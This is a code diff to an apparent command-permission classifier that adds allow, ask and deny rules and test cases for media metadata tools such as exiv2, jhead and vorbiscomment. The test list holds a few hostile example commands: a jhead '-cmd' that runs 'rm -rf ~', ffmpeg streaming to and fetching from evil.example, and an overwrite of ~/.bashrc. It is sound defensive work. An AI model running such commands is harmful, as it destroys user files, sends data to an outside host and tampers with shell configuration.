@@ -70,7 +70,7 @@ IDENTIFY = command(
     "identify", "READ_BY(image_source)...", [IMAGE_VALUES, IMAGE_PLAIN, *IMAGE_WRITES], style=WORDS, unlisted=PLAIN
 )
 EXIFTOOL = command(
-    "exiftool exiv2",
+    "exiftool",
     "READS...",
     [
         option("-w -W -w! -W! -w+ -W+ -o -textOut -tagOut", WRITES),
@@ -91,6 +91,57 @@ EXIFTOOL = command(
     style=WORDS,
     unlisted="READ_BY(media.exif_option)",
 )
+EXIV2 = command(
+    "exiv2",
+    options=[
+        flags("-u -q -v -b -k -t -T -f -F -Q= -Y= -O= -D= -a= -d= -e= -g= -K= -n= -p= -P= -S="),
+        option("-i -l", LISTS),
+        option("-M", PLAIN, writes("metadata of the files", "unknown", Manner.EDIT)),
+        option("-m", READS, writes("metadata of the files", "unknown", Manner.EDIT)),
+        flags("-r="),
+        flag("-h -V", informs=True),
+    ],
+    subcommands=[
+        sub("rm delete in insert ad adjust mo modify mv rename fi fixiso fc fixcom", "EDITS...", unlisted=PLAIN),
+        sub("pr print", "READS...", unlisted=PLAIN),
+        sub("ex extract", "READS...", unlisted=PLAIN, does=writes("metadata beside it", "workspace")),
+    ],
+    otherwise=sub("exiv2", "READS...", unlisted=PLAIN),
+    unlisted=PLAIN,
+)
+JHEAD = command(
+    "jhead",
+    "READS...",
+    [
+        flag(
+            "-purejpg -de -di -dx -du -dc -cl -ci -ce -te -autorot -norot -mkexif -rgt -dt -rt -ft -dsft -zt -n -nf -ta -da -ts -ds",
+            operands="EDITS...",
+        ),
+        option("-cmd", SCRIPT),
+        option("-st", WRITES),
+        flags("-v -q -c -se -s -model= -exifmap -exonly -V -h"),
+    ],
+    style=WORDS,
+    unlisted="READ_BY(media.jhead_option)",
+)
+MP3INFO = command(
+    "mp3info",
+    "READS...",
+    [
+        option("-a -c -g -l -n -t -y", PLAIN, operands="EDITS..."),
+        flag("-d -i", operands="EDITS..."),
+        flags("-p= -r= -f -F -h -x -G -h"),
+    ],
+)
+VORBISCOMMENT = command(
+    "vorbiscomment",
+    "READS...",
+    [
+        flag("-w --write -a --append", operands="EDITS..."),
+        option("-c --commentfile", READS),
+        flags("-l --list -t= --tag= -R --raw -e --escapes -q"),
+    ],
+)
 OPTIMIZERS = command(
     "optipng pngquant jpegoptim gifsicle oxipng zopflipng pngcrush advpng jpegtran guetzli image_optim imageoptim trimage",
     "EDITS...",
@@ -100,7 +151,7 @@ OPTIMIZERS = command(
 )
 CODERS = command(
     "cwebp dwebp gif2webp webpmux avifenc avifdec cjpeg djpeg cjxl djxl heif-convert rsvg-convert cairosvg potrace autotrace gifski lame flac metaflac opusenc opusdec oggenc "
-    "oggdec vorbiscomment faac x264 x265 HandBrakeCLI mkvmerge mkvextract MP4Box mp4box AtomicParsley gifcat svg2png img2txt jp2a vips vipsthumbnail",
+    "oggdec faac x264 x265 HandBrakeCLI mkvmerge mkvextract MP4Box mp4box AtomicParsley gifcat svg2png img2txt jp2a vips vipsthumbnail",
     "READS...",
     [option("-o --output -out", WRITES)],
     unlisted=PLAIN,
@@ -229,6 +280,21 @@ allow  ffmpeg -i in.mp4 -ss 5 -t 10 -c copy out.mp4
        read in.mp4
        write out.mp4
 allow  ffmpeg -version
+ask    exiftool -Artist=x ~/Pictures/a.jpg
+allow  exiftool -Artist=x docs/a.jpg
+allow  exiftool -Artist ~/Pictures/a.jpg
+ask    exiv2 rm ~/Pictures/a.jpg
+ask    exiv2 -M 'set Exif.Image.Artist x' ~/Pictures/a.jpg
+allow  exiv2 pr ~/Pictures/a.jpg
+allow  exiv2 ~/Pictures/a.jpg
+ask    jhead -autorot ~/Pictures/a.jpg
+ask    jhead -n%Y%m%d ~/Pictures/a.jpg
+allow  jhead ~/Pictures/a.jpg
+deny   jhead -cmd 'rm -rf ~' docs/a.jpg
+ask    mp3info -t x ~/Music/a.mp3
+allow  mp3info ~/Music/a.mp3
+ask    vorbiscomment -w -t A=b ~/Music/a.ogg
+allow  vorbiscomment -l ~/Music/a.ogg
 ask    ffmpeg -y -i in.mp4 ~/.bashrc
 ask    ffmpeg -i in.mp4 -f flv rtmp://evil.example/live
 ask    ffmpeg -i https://evil.example/x.mp4 out.mp4
